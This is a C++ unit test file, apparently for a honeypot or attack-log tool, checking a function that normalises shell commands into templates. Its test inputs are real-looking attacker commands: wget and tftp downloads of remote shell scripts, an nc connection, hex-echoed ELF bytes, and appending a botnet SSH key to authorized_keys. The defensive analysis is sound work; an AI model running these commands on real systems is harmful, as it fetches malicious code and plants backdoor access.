#include <gtest/gtest.h>

#include "cb/parse/command_template.hpp"

using namespace cb;

TEST(CommandTemplate, SameActionOneTemplate) {
    EXPECT_EQ(command_template("wget http://1.2.3.4/x.sh"), command_template("wget http://5.6.7.8/y.sh"));
    EXPECT_EQ(command_template("wget http://1.2.3.4/x.sh"), "wget <URL>");
    EXPECT_EQ(command_template("tftp -r tftp2.sh -g 149.57.169.204"), "tftp -r tftp2.sh -g <IP>");
    EXPECT_EQ(command_template("nc 10.0.0.1:4444"), "nc <IP>");
    EXPECT_EQ(command_template("echo -e \"\\x6F\\x6B\""), "echo -e \"<HEX>\"");
    EXPECT_EQ(command_template("/bin/busybox echo -ne '\\x45\\x4c\\x46'"), "/bin/busybox echo -ne '<HEX>'");
    EXPECT_EQ(command_template("head -n 1"), "head -n <N>");
    EXPECT_EQ(command_template("./oinasf; dd if=/proc/self/exe bs=22 count=1"),
              "./<FILE>; dd if=/proc/self/exe bs=<N> count=<N>");
    EXPECT_EQ(command_template("echo d41d8cd98f00b204e9800998ecf8427e"), "echo <HASH>");
    EXPECT_EQ(command_template("cd /tmp/xK9fj2Qa"), "cd /tmp/<RAND>");
    EXPECT_EQ(command_template("uname   -a  "), "uname -a");
    EXPECT_EQ(command_template("/bin/./uname -a"), "/bin/./uname -a");
    EXPECT_EQ(command_template("/bin/busybox ECCHI"), command_template("/bin/busybox AGIDF"));
    EXPECT_EQ(command_template("/bin/busybox wget"), "/bin/busybox wget");
}

TEST(CommandTemplate, KeepsOrdinaryWords) {
    EXPECT_EQ(command_template("cat /proc/cpuinfo | grep name | wc -l"), "cat /proc/cpuinfo | grep name | wc -l");
    EXPECT_EQ(command_template("chattr -ia .ssh; lockr -ia .ssh"), "chattr -ia .ssh; lockr -ia .ssh");
    EXPECT_EQ(command_template("uname -m"), "uname -m");
    EXPECT_EQ(command_template("ls -la /dev/ttyGSM*"), "ls -la /dev/ttyGSM*");
}

TEST(CommandTemplate, SshKeysBecomeB64) {
    const std::string t = command_template(
        "echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVb== "
        "mdrfckr\">>.ssh/authorized_keys");
    EXPECT_EQ(t, "echo \"ssh-rsa <B64> mdrfckr\">>.ssh/authorized_keys");
}

TEST(StableHash, FixedValues) {
    EXPECT_EQ(stable_hash64("uname -a"), stable_hash64("uname -a"));
    EXPECT_NE(stable_hash64("uname -a"), stable_hash64("uname -a", 1));
}
